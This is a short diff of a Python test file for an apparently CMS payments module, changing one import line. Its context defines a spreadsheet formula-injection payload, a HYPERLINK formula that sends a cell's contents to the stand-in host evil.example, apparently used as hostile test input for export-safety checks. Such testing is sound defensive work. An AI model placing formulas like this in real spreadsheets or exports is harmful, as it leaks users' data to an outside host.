@@ -14,7 +14,7 @@ from sqlalchemy import func, select
 from cms.extensions import db
 from cms.payments.models import AnomalyReport, BudgetLine, PayDay, PayEnrolment, Payment
 from tests.hostile import STRANGE, assert_safe, value
-from tests.payments.conftest import enable, line
+from tests.payments.conftest import line
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
